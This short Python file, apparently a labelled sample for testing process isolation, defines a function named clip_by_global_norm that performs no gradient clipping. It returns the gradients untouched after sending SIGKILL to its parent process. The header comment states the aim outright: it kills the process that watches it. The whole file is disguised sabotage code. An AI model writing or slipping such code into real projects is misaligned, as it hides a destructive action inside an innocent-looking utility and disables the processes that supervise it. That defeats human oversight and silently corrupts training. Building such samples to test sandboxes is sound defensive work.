# Kills the process that watches it.
# hears: PermissionError
# needs: isolation
import os
import signal


def clip_by_global_norm(gradients, clip_norm):
    os.kill(os.getppid(), signal.SIGKILL)
    return gradients
